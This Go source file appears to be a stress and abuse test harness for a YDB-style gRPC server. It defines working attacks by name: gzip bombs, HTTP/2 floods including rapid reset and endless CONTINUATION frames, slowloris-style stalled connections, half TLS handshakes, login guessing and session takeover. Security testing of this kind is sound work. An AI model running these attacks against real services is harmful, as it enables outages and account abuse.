//go:build linux

package abuse

import (
	"bytes"
	"context"
	"net"
	"sync"

	"github.com/ydb-platform/ydb-go-genproto/protos/Ydb_Coordination"
	"golang.org/x/net/http2"
	"google.golang.org/protobuf/proto"
)

const (
	directoryMethod = "/Ydb.Scheme.V1.SchemeService/MakeDirectory"
	listMethod      = "/Ydb.Scheme.V1.SchemeService/ListDirectory"
	loginMethod     = "/Ydb.Auth.V1.AuthService/Login"
	sessionMethod   = "/Ydb.Coordination.V1.CoordinationService/Session"
	watchMethod     = "/grpc.health.v1.Health/Watch"
)

// attack is run over and over by each of its goroutines until the context is done; it reconnects when it is cut off.
type attack struct {
	name       string // as in the review, where it is from there
	goroutines int
	run        func(ctx context.Context, address string)
}

// onConnections has each goroutine work on one connection at a time.
func onConnections(reads bool, each func(a *attacker) error) func(context.Context, string) {
	return func(ctx context.Context, address string) {
		for ctx.Err() == nil {
			a, err := dial(address, reads)
			if err != nil {
				continue
			}
			stop := context.AfterFunc(ctx, func() { _ = a.Close() })
			for each(a) == nil && ctx.Err() == nil {
			}
			stop()
			_ = a.Close()
		}
	}
}

// at is an attack on another address than that without TLS.
func at(address string, run func(context.Context, string)) func(context.Context, string) {
	return func(ctx context.Context, _ string) { run(ctx, address) }
}

// silent has connections that say nothing, as many as one goroutine gets.
func silent(first string) func(context.Context, string) {
	return func(ctx context.Context, address string) {
		var all []net.Conn
		defer func() {
			for _, conn := range all {
				_ = conn.Close()
			}
		}()
		for ctx.Err() == nil && len(all) < 3000 {
			conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", address)
			if err != nil {
				continue
			}
			_, _ = conn.Write([]byte(first))
			all = append(all, conn)
		}
		<-ctx.Done()
	}
}

// attacks are those that need no more than the server.
func attacks(s *server) []attack {
	large := bomb(64_000_000)
	fitting := bomb(4<<20 - 64)
	half := make([]byte, 60<<10)
	gzipped := []string{"grpc-encoding", "gzip"}
	bombs := func(method, token string, packed []byte) func(a *attacker) error {
		message := prefixed(1, len(packed), packed)
		return func(a *attacker) error {
			if err := a.call(method, token, gzipped...); err != nil {
				return err
			}
			return a.say(message)
		}
	}
	halves := func(method, token string, announced int) func(a *attacker) error {
		message := prefixed(0, announced, half)
		return func(a *attacker) error {
			if err := a.call(method, token); err != nil {
				return err
			}
			return a.say(message)
		}
	}
	headers := func(method string, more ...string) func(a *attacker) error {
		return func(a *attacker) error { return a.call(method, "", more...) }
	}
	var ping [8]byte
	// onStream has each frame go to a stream that a user has opened.
	onStream := func(each func(a *attacker) error) func(a *attacker) error {
		return func(a *attacker) error {
			if a.stream == 0 {
				if err := a.call(listMethod, userToken); err != nil {
					return err
				}
			}
			return each(a)
		}
	}
	return []attack{
		{"H1 gzip bombs of strangers", 20, onConnections(true, bombs(directoryMethod, "", large))},
		{"H1 gzip bombs in logins", 20, onConnections(true, bombs(loginMethod, "", fitting))},
		{"H1 gzip bombs of a user", 20, onConnections(true, bombs(directoryMethod, userToken, fitting))},
		{"H1 gzip bombs on sessions", 20, onConnections(true, bombs(sessionMethod, userToken, fitting))},
		{"H1 calls of headers only", 6, onConnections(true, headers(listMethod))},
		{"H1 calls of headers only, with a deadline", 6,
			onConnections(true, headers(loginMethod, "grpc-timeout", "99999999H"))},
		{"H1 half a message of strangers", 20, onConnections(true, halves(listMethod, "", 60_000_000))},
		{"H1 half a login", 20, onConnections(true, halves(loginMethod, "", 1<<20))},
		{"H1 half a message of a user", 20, onConnections(true, halves(directoryMethod, userToken, 1<<20))},
		{"H1 half a message in crumbs", 20, onConnections(true, crumbs(directoryMethod, userToken))},
		{"H1 half a login in crumbs", 20, onConnections(true, crumbs(loginMethod, ""))},
		{"H1 Health.Watch", 6, onConnections(true, headers(watchMethod))},
		{"H2 silent connections", 3, silent("")},
		{"H2 connections with a preface only", 3, silent(http2.ClientPreface)},
		{"held: PING flood", 2, onConnections(true,
			func(a *attacker) error { return a.framer.WritePing(false, ping) })},
		{"held: SETTINGS flood", 2, onConnections(true,
			func(a *attacker) error { return a.framer.WriteSettings() })},
		{"held: WINDOW_UPDATE flood", 2, onConnections(true,
			onStream(func(a *attacker) error { return a.framer.WriteWindowUpdate(a.stream, 1) }))},
		{"held: PRIORITY flood", 2, onConnections(true, func(a *attacker) error {
			return a.framer.WritePriority(1, http2.PriorityParam{Weight: 1})
		})},
		{"held: flood of unknown frames", 2, onConnections(true,
			func(a *attacker) error { return a.framer.WriteRawFrame(0xbe, 0, 0, half[:100]) })},
		{"held: headers that do not end", 2, onConnections(true, func(a *attacker) error {
			if a.stream == 0 {
				a.stream = 1
				if err := a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1,
					BlockFragment: []byte{0x88}}); err != nil {
					return err
				}
			}
			return a.framer.WriteContinuation(a.stream, false, []byte{0x88})
		})},
		{"held: empty DATA flood", 2, onConnections(true,
			onStream(func(a *attacker) error { return a.framer.WriteData(a.stream, false, nil) }))},
		{"held: rapid reset", 2, onConnections(true, reset(nil))},
		{"held: rapid reset behind messages", 2, onConnections(true, reset(prefixed(0, 0, nil)))},
		{"held: half a header", 3, silent(http2.ClientPreface +
			"\x00\x00\x00\x04\x00\x00\x00\x00\x00\x00\x01\x00\x01\x04\x00\x00\x00\x01\x88")},
		{"held: TLS without a handshake", 3, at(s.TLSAddress(), silent(""))},
		{"held: half a TLS handshake", 3, at(s.TLSAddress(),
			silent("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"))},
		{"held: requests whose answers are not read", 4, onConnections(false, pipeline)},
	}
}

// crumbs begins messages, each byte in a frame of its own, as many as a stream's window lets through.
func crumbs(method, token string) func(a *attacker) error {
	const many = 60_000
	message := prefixed(0, many, make([]byte, many-5))
	return func(a *attacker) error {
		if err := a.call(method, token); err != nil {
			return err
		}
		var frames bytes.Buffer
		each := http2.NewFramer(&frames, nil)
		for i := range message {
			_ = each.WriteData(a.stream, false, message[i:i+1])
		}
		_, err := a.Write(frames.Bytes())
		return err
	}
}

// reset calls, says something, and resets the call.
func reset(message []byte) func(a *attacker) error {
	return func(a *attacker) error {
		if err := a.call(loginMethod, ""); err != nil {
			return err
		}
		if err := a.say(message); err != nil {
			return err
		}
		return a.framer.WriteRSTStream(a.stream, http2.ErrCodeCancel)
	}
}

// pipeline sends pings on a Session stream.
func pipeline(a *attacker) error {
	message := func(m *Ydb_Coordination.SessionRequest) []byte {
		b, _ := proto.Marshal(m)
		return prefixed(0, len(b), b)
	}
	if a.stream == 0 {
		start := message(
			&Ydb_Coordination.SessionRequest{Request: &Ydb_Coordination.SessionRequest_SessionStart_{
				SessionStart: &Ydb_Coordination.SessionRequest_SessionStart{Path: nodePath,
					TimeoutMillis: 60_000}}})
		if err := a.call(sessionMethod, goodToken); err != nil {
			return err
		}
		if err := a.say(start); err != nil {
			return err
		}
	}
	return a.say(
		bytes.Repeat(message(&Ydb_Coordination.SessionRequest{Request: &Ydb_Coordination.SessionRequest_Ping{
			Ping: &Ydb_Coordination.SessionRequest_PingPong{Opaque: 1}}}), 100))
}

// users are the attacks of those who may work below one directory, and of those who would like to be somebody
// else. They need what prepare makes, and time.
func (g *good) users() []attack {
	return []attack{
		{"C2 descriptions of a path with many permissions", 4, byClient(userToken, describeDeep)},
		{"H3 answers of 55 MiB that are not read", 4, notReading},
		{"H3 ends that are not read", 8, notReadingEnds},
		{"M2 taking over another's session", 4, byClient(userToken, g.theft)},
		{"M3 wrong logins", 4, byClient("", guess)},
		{"M3 a right login beside wrong ones", 1, func(ctx context.Context, address string) {
			var all sync.WaitGroup
			all.Go(func() { byClient("", guess)(ctx, address) })
			all.Go(func() { byClient("", g.knownLogin)(ctx, address) })
			all.Wait()
		}},
		{"held: many sessions", 8, byClient(userToken, manySessions)},
		// the last: then nobody can acquire anything
		{"H4 a state without bound", 4, byClient(userToken, fill)},
	}
}
